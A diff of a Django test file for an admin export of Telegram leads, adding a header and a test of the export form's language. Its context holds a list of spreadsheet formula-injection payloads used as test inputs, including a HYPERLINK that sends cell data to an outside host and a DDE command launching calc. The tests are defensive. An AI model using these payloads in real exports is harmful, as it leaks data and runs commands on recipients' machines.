@@ -32,6 +32,7 @@ HEADERS = [
     "Last message",
     "Language",
     "Personal data consent",
+    "Interested in",
 ]
 #: Names a Telegram user can pick that spreadsheets would run (no tab or CR: XML changes those).
 FORMULAS = ['==HYPERLINK("//e.tk/"&D3)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", " =1+1"]
@@ -163,6 +164,17 @@ def test_xlsx_times_are_date_cells_in_the_project_zone_to_the_second(admin_clien
     consent = xlsx_sheet(admin_client.post(EXPORT, export_form("1")))["K2"]
 
     assert (consent.value, consent.data_type) == (datetime(2025, 3, 1, 12, 30, 15), "d")
+
+
+def test_the_export_form_speaks_only_the_admin_language(admin_client, db, settings):
+    settings.LANGUAGE_CODE = "ru"
+
+    page = admin_client.get(EXPORT).content.decode()
+
+    assert "Выбрать все" in page
+    assert "Select all" not in page
+    assert '<label for="id_contactresource_id">ID</label>' in page
+    assert '<label for="id_contactresource_phone">Телефон</label>' in page
 
 
 def test_csv_export_respects_the_changelist_filter(admin_client, leads):
